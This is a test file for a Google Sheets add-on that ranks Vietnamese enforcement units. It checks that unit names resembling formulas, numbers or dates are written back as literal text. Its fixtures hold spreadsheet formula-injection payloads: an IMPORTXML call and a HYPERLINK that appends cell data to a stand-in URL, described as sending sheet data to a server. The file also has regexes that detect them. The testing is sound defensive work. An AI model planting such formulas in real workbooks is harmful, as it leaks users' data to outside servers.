/**
 * Formula injection (issue 6, item 4): a unit's name comes from a cell anyone with edit rights can
 * type into. Written back by the add-on as it is, `=IMPORTXML("http://x","//a")` would become a formula
 * that sends the sheet's data to a server; `+1+1`, `-2` and `@SUM(A1)` are formulas too in Sheets.
 * Every sheet the add-on writes — the report, the "Chỉ tiêu" sheet — must hold such names as TEXT:
 * read back as the very same string, with no formula anywhere carrying them.
 *
 * Runs the BUILT add-on in the local runtime, whose setValues stores "=…" as a formula and "'=…" as
 * text, as Sheets does.
 */
import { runInContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { newSheets, runtimeOver, snapshotWorkbook, type AppsScriptRuntime } from '../reliability/harness';
import type { SheetModel } from '../../runtime/model/sheet';
import { DATA_SHEET, reportSettings, userWorkbook } from '../reliability/userWorkbook';

/** Unit names that Sheets would take as formulas (or that lose a character when written naively). */
const HOSTILE_NAMES = [
  '=IMPORTXML("http://x","//a")',
  '+1+1',
  '-2',
  '@SUM(A1)',
  '=HYPERLINK("http://x?"&A1,"Chi cục THADS huyện D")',
  "'Chi cục THADS huyện E",
];

function call(runtime: AppsScriptRuntime, name: string, request: unknown): unknown {
  return runtime.call(name, (runInContext('JSON.parse', runtime.context) as (s: string) => unknown)(JSON.stringify(request)));
}

/** Every formula of a sheet, with where it is. */
function formulasOf(sheet: SheetModel): string[] {
  const out: string[] = [];
  sheet.rows.forEach((row, r) => row?.forEach((cell, c) => cell?.formula && out.push(`R${r + 1}C${c + 1}: ${cell.formula}`)));
  return out;
}

/** True when some cell of the sheet holds exactly `text` as its value, with no formula. */
function holdsAsText(sheet: SheetModel, text: string): boolean {
  return sheet.rows.some((row) => row?.some((cell) => cell !== undefined && !cell.formula && cell.value === text));
}

const source = { sheet: DATA_SHEET, range: null, mapping: null };

describe('unit names that look like formulas', () => {
  it('are read from the data sheet as the units they are (the precondition of the tests below)', async () => {
    const runtime = await runtimeOver(userWorkbook(HOSTILE_NAMES));
    const answer = call(runtime, 'sidebarDetect', { source, moneyUnit: null, notRanked: [] }) as { ok: boolean; table?: { units: { label: string }[] }; message?: string };
    expect(answer.ok, answer.message).toBe(true);
    expect(answer.table!.units.map((u) => u.label)).toEqual(expect.arrayContaining(HOSTILE_NAMES));
  });

  it('are written into the report as text: the same string read back, no formula', async () => {
    const workbook = userWorkbook(HOSTILE_NAMES);
    const before = snapshotWorkbook(workbook);
    const runtime = await runtimeOver(workbook);
    const answer = call(runtime, 'sidebarMakeReport', reportSettings()) as { ok: boolean; sheetName?: string; message?: string };
    expect(answer.ok, answer.message).toBe(true);
    const report = workbook.sheet(answer.sheetName!)!;
    expect(newSheets(before, workbook).map((s) => s.name)).toContain(report.name);
    for (const name of HOSTILE_NAMES) expect(holdsAsText(report, name), `"${name}" in the report as text`).toBe(true);
    const carrying = formulasOf(report).filter((f) => HOSTILE_NAMES.some((n) => f.includes(n.replace(/^'/, ''))) || /IMPORT|HYPERLINK|SUM\(A1\)/i.test(f));
    expect(carrying).toEqual([]);
  });

  it('are written into the "Chỉ tiêu" sheet as text too', async () => {
    const workbook = userWorkbook(HOSTILE_NAMES);
    const runtime = await runtimeOver(workbook);
    const answer = call(runtime, 'sidebarCreateTargetsSheet', { source, year: 2020, viec: 0.8, tien: 0.38, addMissing: false }) as { ok: boolean; sheetName?: string; message?: string };
    expect(answer.ok, answer.message).toBe(true);
    const targets = workbook.sheet(answer.sheetName!)!;
    for (const name of HOSTILE_NAMES) expect(holdsAsText(targets, name), `"${name}" in "${targets.name}" as text`).toBe(true);
    expect(formulasOf(targets).filter((f) => /IMPORT|HYPERLINK|SUM\(A1\)|\+1\+1/i.test(f))).toEqual([]);
  });
});

/**
 * Unit names that a vi_VN Sheets turns into a number, a percentage, a date or a boolean when written
 * as they are (runtime/model/typed-input.ts reads them so): the report must keep them as the text
 * the user typed.
 */
const CONVERTIBLE_NAMES = ['TRUE', 'false', '1e5', '12-5', '5/2024', '(5)', ',5', '1,5', '80%', '$5', '5 ₫', '1.234', '8:30', '2024-05-12'];

describe('unit names that Sheets would read as numbers, dates or booleans', () => {
  it('are written into the report and the "Chỉ tiêu" sheet as the same text', async () => {
    const workbook = userWorkbook(CONVERTIBLE_NAMES);
    const runtime = await runtimeOver(workbook);
    const answer = call(runtime, 'sidebarMakeReport', reportSettings()) as { ok: boolean; sheetName?: string; message?: string };
    expect(answer.ok, answer.message).toBe(true);
    const report = workbook.sheet(answer.sheetName!)!;
    const targets = call(runtime, 'sidebarCreateTargetsSheet', { source, year: 2020, viec: 0.8, tien: 0.38, addMissing: false }) as { ok: boolean; sheetName?: string; message?: string };
    expect(targets.ok, targets.message).toBe(true);
    for (const sheet of [report, workbook.sheet(targets.sheetName!)!])
      for (const name of CONVERTIBLE_NAMES) expect(holdsAsText(sheet, name), `"${name}" in "${sheet.name}" as text`).toBe(true);
  });
});
